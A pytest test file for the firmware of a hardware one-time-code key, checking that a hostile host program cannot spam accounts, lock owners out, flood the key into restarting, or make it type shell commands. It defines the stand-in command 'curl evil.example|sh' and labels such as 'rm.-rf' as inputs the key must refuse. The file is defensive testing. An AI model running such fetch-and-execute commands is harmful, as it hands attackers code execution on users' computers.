"""A program tries to do harm without stealing: to type into the window, to spoil, to lock out.

It would have the key type arbitrary text where the cursor is, spoil what costs hours to repair, or lock
owners out of their key.
"""

from __future__ import annotations

import string

import pytest

from tests.attacks.stage import Stage, done, waits
from tests.flash import attacker
from tests.support.desk import AMAZON
from tests.support.keys import WITH_PINS, simulated
from tests.typing.bench import US_TABLE
from totpkey.keyboard.layouts import layouts


def test_a_few_accounts_come_without_a_touch_and_no_more(stage: Stage) -> None:
    stage.set_up()
    came = 0
    while not waits(stage.add(label=f"spam{came}")):
        came += 1
        assert came < 20
    assert came < 10
    stage.port.pulse()
    assert waits(stage.add()), "also by a port that is opened again"


def test_a_few_recipes_change_without_a_touch_and_no_more(stage: Stage) -> None:
    account, changes = stage.set_up(), 0
    while not waits(
        stage.port.ask("recipe", account=account, recipe=("{code}", "{SLOW}{code}")[changes % 2])
    ):
        changes += 1
        assert changes < 20
    assert changes < 10


def test_nothing_is_switched_off_for_good_without_a_touch(stage: Stage) -> None:
    stage.port.open()
    assert waits(stage.port.ask("init", export=0))
    stage.port.pulse()
    done(stage.port.ask("init", export=1))


def test_one_press_is_enough_for_many_small_changes(stage: Stage) -> None:
    """What an owner does is not made a chore."""
    account = stage.set_up()
    done(stage.agree("rename", account=account, label="one"))
    for number in range(12):
        done(stage.port.ask("rename", account=account, label=f"name {number}"))
        done(stage.add(label=f"more{number}"))


def stuck(unique_id: bytes, moment: float) -> attacker.Slot:
    """What opens a key that is made ready at that moment after it was plugged in."""
    desk = simulated(WITH_PINS, uid=unique_id, entropy=lambda length: b"\x55" * length)
    stage = Stage.plugged_in(desk)
    stage.key.run(moment)
    stage.port.open()
    done(stage.port.ask("init"))
    (slot,) = attacker.slots(stage.key.flash)
    return slot


@pytest.mark.simulator_only(reason="the chip's generator cannot be made to stick")
@pytest.mark.parametrize("other", [(b"ONE KEY.", 0.15), (b"KEY TWO.", 0.1)], ids=["again", "another"])
def test_a_stuck_generator_gives_no_data_key_twice_nor_two_keys_the_same(other: tuple[bytes, float]) -> None:
    slots = stuck(b"ONE KEY.", 0.1), stuck(*other)
    assert slots[0].salt != slots[1].salt
    assert slots[0].wrapped != slots[1].wrapped


def test_a_program_that_floods_and_never_reads_does_not_restart_the_key(stage: Stage) -> None:
    account = stage.set_up()
    stage.port.close()
    stage.port.open()
    # Each is answered with an error, for which the key would wait half a second.
    flood = b"{}\n" * 85
    before = stage.key.uptime_ms
    for _ in range(60):
        stage.key.write_serial(flood)
        stage.key.run(0.25)
    assert stage.key.uptime_ms - before > 14_000, "it has not started afresh"
    stage.port.close()
    stage.key.run(1)
    stage.port.open()
    # The computer still has some of it to send.
    while stage.port.heard(0.5):
        pass
    assert done(stage.port.ask("hello"))["face"] == "setup"
    assert waits(stage.port.ask("remove", account=account))


COMMAND = "curl evil.example|sh"


def with_letters(stage: Stage) -> str:
    account = stage.set_up()
    given: dict[str, str | int] = {"mode": "keypad", "pace": 0, "delay": 0, "margin": 3, "layout": "us"}
    done(stage.agree("set_typing", **given, table=US_TABLE.hex()))
    stage.port.pulse()
    return account


@pytest.mark.parametrize("recipe", ["{user}{ENTER}{code}", "{code}{ENTER}", "{code}{TAB}"])
def test_no_batch_lets_in_what_types_more_than_digits(stage: Stage, recipe: str) -> None:
    with_letters(stage)
    done(stage.agree("batch", count=10))
    assert waits(stage.add(label="rm.-rf", recipe=recipe))


@pytest.mark.parametrize("recipe", ["", "{code}{ENTER}"])
def test_a_steam_secret_that_was_sought_for_its_letters_does_not_come_by_itself(
    stage: Stage, recipe: str
) -> None:
    with_letters(stage)
    assert waits(stage.add(type="steam", digits=5, recipe=recipe))


def test_enter_and_tab_do_not_come_by_themselves(stage: Stage) -> None:
    account = with_letters(stage)
    for recipe in ("{code}{ENTER}", "{TAB}{code}"):
        assert waits(stage.port.ask("recipe", account=account, recipe=recipe))
        stage.port.pulse()
    assert waits(stage.add(type="hotp", recipe="{code}{TAB}"))


def test_no_shell_command_is_a_name_that_is_typed_whoever_presses(stage: Stage) -> None:
    account = with_letters(stage)
    answer = stage.agree("add", label=COMMAND, secret="31" * 20, proof=0, recipe="{user}{ENTER}{code}")
    assert answer.get("error") == "cannot_type"
    done(stage.agree("recipe", account=account, recipe="{user}{ENTER}{code}"))
    assert stage.agree("rename", account=account, label=COMMAND).get("error") == "cannot_type"


def test_no_press_for_a_small_change_gives_an_agreed_name_other_letters(stage: Stage) -> None:
    account = with_letters(stage)
    done(stage.agree("recipe", account=account, recipe="{user}{ENTER}{code}"))
    other = str(done(stage.add(label="other"))["account"])
    done(stage.port.ask("rename", account=other, label="mine"))
    assert waits(stage.port.ask("rename", account=account, label="shutdown"))


@pytest.mark.parametrize(
    "other_keys", [{"mode": "top-row"}, {"table": layouts()["dvorak"].table.hex()}], ids=["mode", "table"]
)
def test_no_press_for_a_small_change_has_an_agreed_name_typed_with_other_keys(
    stage: Stage, other_keys: dict[str, str]
) -> None:
    """They give signs that a shell knows where the computer has another layout than the key."""
    account = with_letters(stage)
    done(stage.agree("recipe", account=account, recipe="{user}{ENTER}{code}"))
    other = str(done(stage.add(label="other"))["account"])
    done(stage.agree("rename", account=other, label="mine"))
    same: dict[str, str | int] = {"mode": "keypad", "delay": 0, "margin": 3, "layout": "us"}
    same["table"] = US_TABLE.hex()
    done(stage.port.ask("set_typing", **same, pace=16))
    assert waits(stage.port.ask("set_typing", **{**same, **other_keys}, pace=16))
    stage.port.pulse()
    assert done(stage.port.ask("typing"))["mode"] == "keypad"


def test_hardly_a_character_of_a_name_is_harmless_on_every_pair_of_layouts() -> None:
    """Why a name is not kept to those: docs/concepts/consent.md, "What types more than digits"."""
    names = set(string.ascii_letters + string.digits + "@._+-")
    arrives = {
        layout.name: {stroke: character for character, stroke in layout.strokes.items()}
        for layout in layouts().values()
    }
    harmless = {
        character
        for character in names
        if all(
            arrived.get(layout.strokes.get(character, (0, 0)), character) in names
            for layout in layouts().values()
            for arrived in arrives.values()
        )
    }
    assert harmless == set("certuxCRTUX")
    assert arrives["us"][layouts()["dvorak"].strokes["W"]] == "<"


def test_a_program_chooses_no_account_whose_codes_it_does_not_know(stage: Stage) -> None:
    """What it has brought itself it may choose: a press then types what it knows, as the light says."""
    owners = stage.set_up()
    brought = str(done(stage.add(label="bank", secret="31" * 20))["account"])
    done(stage.port.ask("choose", account=brought))
    assert waits(stage.port.ask("choose", account=owners))
    stage.port.pulse()
    assert waits(stage.port.ask("choose", account=owners))
    stage.port.pulse()
    assert waits(stage.port.ask("choose", account=brought)), "a program that comes later has brought nothing"
    stage.port.pulse()
    done(stage.agree("choose", account=owners))
    done(stage.port.ask("done"))
    stage.desk.await_face(serial=False)
    stage.desk.expect_code(AMAZON)
